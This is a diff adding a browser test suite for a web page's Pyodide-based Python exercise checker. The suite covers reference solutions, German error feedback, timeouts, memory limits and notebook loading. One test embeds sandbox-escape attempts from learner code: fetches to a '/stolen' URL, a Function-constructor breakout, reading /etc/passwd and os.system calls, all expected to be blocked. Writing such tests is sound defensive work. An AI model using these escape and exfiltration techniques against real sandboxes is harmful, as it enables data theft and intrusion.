@@ -1,0 +1,190 @@
+// The page's Python mode in real headless Chromium, offline: CPython
+// (Pyodide) and the checker's Python harness load from the page's own
+// origin, the notebook's reference solution passes, a typical bug is blamed
+// on the right function, an endless loop costs one deadline, and escape
+// attempts from the learner's Python change nothing outside the worker.
+// Every request is recorded; none may leave the origin.
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { serve } from '../../scripts/serve.js';
+
+const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
+  '--disable-background-networking', '--disable-component-update', '--disable-sync'];
+const learner = (name) => readFileSync(new URL(`../cli/python/${name}`, import.meta.url), 'utf8');
+const REFERENCE = learner('reference.py');
+const OVERWRITE = learner('overwrite.py');
+const ENDLESS = learner('endless.py'); // get_output_shape loops; maxpool2d and the classes call it
+const NAMES = ['get_output_shape', 'maxpool2d', 'MaxPooling_.forward', 'MaxPooling_.backprop_yx', 'MaxPooling.backward_input', 'AvgPooling.forward', 'AvgPooling.backward_input'];
+const BUDGET_MS = 20_000; // per function, via ?codeTimeout (pure-Python NumPy is slow on a shared CPU)
+const OUTSIDE = 'http://127.0.0.1:9/stolen';
+
+// Each line tries a way out of the worker; every attempt is caught, so the
+// reference solution below it must still pass.
+const ESCAPES = `
+import sys
+attempts = []
+def attempt(name, thunk):
+    try:
+        attempts.append((name, repr(thunk())[:40]))
+    except BaseException as error:
+        attempts.append((name, type(error).__name__))
+
+attempt('js.fetch', lambda: __import__('js').fetch('${OUTSIDE}?js'))
+attempt('js.document', lambda: setattr(__import__('js').document, 'title', 'pwned'))
+attempt('js.postMessage', lambda: __import__('js').postMessage({'type': 'result', 'id': 1, 'ok': True}))
+attempt('pyodide_js', lambda: __import__('pyodide_js')._module)
+attempt('run_js', lambda: __import__('pyodide.code', fromlist=['run_js']).run_js("fetch('${OUTSIDE}?run_js')"))
+def through_constructor():
+    from pyodide.ffi import create_proxy
+    make = create_proxy(len).constructor.constructor
+    return make("return fetch('${OUTSIDE}?constructor')")()
+attempt('Function', through_constructor)
+def through_bridge():
+    import _poolgrad_bridge
+    return _poolgrad_bridge.compute.constructor("return self")().fetch('${OUTSIDE}?bridge')
+attempt('bridge', through_bridge)
+attempt('open', lambda: open('/etc/passwd').read())
+attempt('os.system', lambda: __import__('os').system('touch /tmp/poolgrad-escaped'))
+attempt('urllib', lambda: __import__('urllib.request', fromlist=['urlopen']).urlopen('${OUTSIDE}?urllib'))
+print(attempts)
+`;
+
+let server;
+let origin;
+let browser;
+let page;
+const requests = [];
+const problems = [];
+
+beforeAll(async () => {
+  ({ server, url: origin } = await serve({ port: 0 }));
+  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
+  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce', serviceWorkers: 'block' });
+  // Every request of the page and its workers passes here; any other origin is refused.
+  await context.route('**/*', (route) => {
+    const url = route.request().url();
+    requests.push(url);
+    return url.startsWith(origin) ? route.continue() : route.abort('blockedbyclient');
+  });
+  await context.addInitScript(() => {
+    window.__csp = [];
+    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
+  });
+  page = await context.newPage();
+  page.on('pageerror', (e) => problems.push(e.message));
+  page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
+  await page.goto(`${origin}?codeTimeout=${BUDGET_MS}`);
+  await page.waitForSelector('#code-mode-toggle');
+}, 60_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await new Promise((done) => (server ? server.close(done) : done()));
+});
+
+async function runWith(code) {
+  await page.fill('textarea[data-code]', code);
+  await page.click('button[data-code-run]');
+  await page.waitForSelector('[data-code-summary][data-state]', { timeout: 400_000 });
+  return page.$$eval('[data-code-results] > li', (items) =>
+    items.map((li) => ({ name: li.dataset.function, state: li.dataset.state, mistake: li.dataset.mistake ?? null, failure: li.querySelector('pre')?.textContent ?? '' })),
+  );
+}
+
+describe('python mode', () => {
+  it('opens_as_the_default_language_with_the_notebook_cells_and_gaps', async () => {
+    const before = requests.length;
+    await page.click('#code-mode-toggle');
+    await page.waitForFunction(() => document.querySelector('textarea[data-code]')?.value.includes('def get_output_shape'));
+    expect(await page.inputValue('[data-code-language]')).toBe('python');
+    const template = await page.inputValue('textarea[data-code]');
+    expect(template).toContain('import tui_dl4cv.cnn');
+    expect(template).toContain('        h_out, w_out = ...  # bitte Code ergaenzen <---------------- [Luecke (8)]');
+    expect(template).toContain('                        ...  # bitte Code ergaenzen <---------------- [Luecke (18)]');
+    expect(template).not.toContain('+=grad_value');
+    expect(await page.getAttribute('input[type=file][data-notebook]', 'accept')).toContain('.ipynb');
+    // Opening Python mode is what loads CPython (lazily, same-origin).
+    await page.waitForFunction(() => performance.getEntriesByType('resource').length > 0);
+    expect(requests.slice(before).some((u) => u.endsWith('/js/code-panel.js'))).toBe(true);
+  }, 60_000);
+
+  it('reference_solution_passes_every_function', async () => {
+    const results = await runWith(REFERENCE);
+    expect(results.map((r) => r.name)).toEqual(NAMES);
+    expect(results.filter((r) => r.state !== 'pass')).toEqual([]);
+    expect(await page.getAttribute('[data-code-summary]', 'data-state')).toBe('pass');
+  }, 600_000);
+
+  it('overwrite_instead_of_add_is_blamed_on_backward_input_in_german', async () => {
+    const results = await runWith(OVERWRITE);
+    expect(results.filter((r) => r.state !== 'pass').map((r) => r.name)).toEqual(['MaxPooling.backward_input']);
+    const blamed = results.find((r) => r.name === 'MaxPooling.backward_input');
+    expect(blamed.mistake).toBe('overwrite-not-add');
+    expect(blamed.failure).toContain('erwartet:');
+    expect(blamed.failure).toContain('layer.backward_input(gradOutput)');
+    expect(blamed.failure).not.toMatch(/\bexpected\b|\bactual\b/);
+  }, 600_000);
+
+  it('endless_loop_in_get_output_shape_is_stopped_once_and_its_callers_fail_at_once', async () => {
+    const results = await runWith(ENDLESS);
+    const byName = Object.fromEntries(results.map((r) => [r.name, r]));
+    expect(byName.get_output_shape.state).toBe('timeout');
+    const callers = results.filter((r) => r.name !== 'get_output_shape');
+    expect(callers.filter((r) => r.state === 'timeout').map((r) => r.name)).toEqual([]);
+    for (const r of callers.filter((c) => c.state !== 'pass')) {
+      expect(r.state).toBe('error');
+      expect(r.failure).toContain('get_output_shape ist in der eigenen Prüfung nicht fertig geworden');
+    }
+    expect(byName.maxpool2d.state).toBe('error');
+  }, 600_000);
+
+  it('escape_attempts_change_nothing_outside_the_worker', async () => {
+    const title = await page.title();
+    const results = await runWith(`${ESCAPES}\n${REFERENCE}`);
+    expect(results.filter((r) => r.state !== 'pass')).toEqual([]);
+    expect(await page.title()).toBe(title);
+    expect(requests.filter((u) => u.includes('stolen'))).toEqual([]);
+  }, 600_000);
+
+  it('a_huge_allocation_fails_that_function_only_and_the_checker_lives_on', async () => {
+    const lines = REFERENCE.split('\n');
+    const at = lines.findLastIndex((l) => l.includes('def backward_input'));
+    lines.splice(at + 1, 0, '        hoard = [0.0] * 10**9');
+    const results = await runWith(lines.join('\n'));
+    const failed = results.filter((r) => r.state !== 'pass');
+    expect(failed.map((r) => r.name)).toEqual(['AvgPooling.backward_input']);
+    expect(failed[0].state).toBe('error');
+    expect(failed[0].failure).toContain('MemoryError');
+  }, 600_000);
+
+  it('syntax_error_names_line_and_column_and_an_opened_notebook_fills_the_editor', async () => {
+    const lines = REFERENCE.split('\n');
+    const at = lines.findIndex((l) => l.includes('def get_output_shape'));
+    const broken = '    h_out = (1 +';
+    lines.splice(at + 1, 0, broken);
+    await runWith(lines.join('\n'));
+    expect(await page.getAttribute('[data-code-summary]', 'data-state')).toBe('invalid');
+    expect(await page.textContent('[data-code-summary]')).toContain('keine der Funktionen get_output_shape');
+    expect(await page.textContent('[data-code-notes]')).toMatch(new RegExp(`SyntaxError: .* \\(line ${at + 2}, column \\d+\\)`));
+
+    await page.setInputFiles('input[type=file][data-notebook]', fileURLToPath(new URL('../cli/python/reference.ipynb', import.meta.url)));
+    await page.waitForFunction(() => document.querySelector('textarea[data-code]').value.includes('+=grad_value'));
+    expect(await page.textContent('#code-note')).toContain('reference.ipynb geladen: 17 Code-Zellen');
+    expect(await page.inputValue('textarea[data-code]')).toContain('import torch.nn.functional as F');
+    await page.setInputFiles('input[type=file][data-notebook]', { name: 'kaputt.ipynb', mimeType: 'application/json', buffer: Buffer.from('{"cells": [') });
+    await page.waitForFunction(() => document.querySelector('#code-note').textContent.includes('kaputt.ipynb'));
+    expect(await page.textContent('#code-note')).toContain('kaputt.ipynb ist kein lesbares Notebook: kein gültiges JSON');
+    expect(await page.inputValue('textarea[data-code]')).toContain('+=grad_value'); // the editor kept the last good text
+  }, 600_000);
+
+  it('nothing_left_the_origin_and_the_page_csp_holds_no_unsafe_eval', async () => {
+    expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
+    expect(requests.some((u) => u.endsWith('/vendor/pyodide/pyodide.asm.wasm'))).toBe(true);
+    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+    expect(csp).not.toContain("'unsafe-eval'");
+    expect(await page.evaluate(() => window.__csp)).toEqual([]);
+    expect(problems).toEqual([]);
+  });
+});
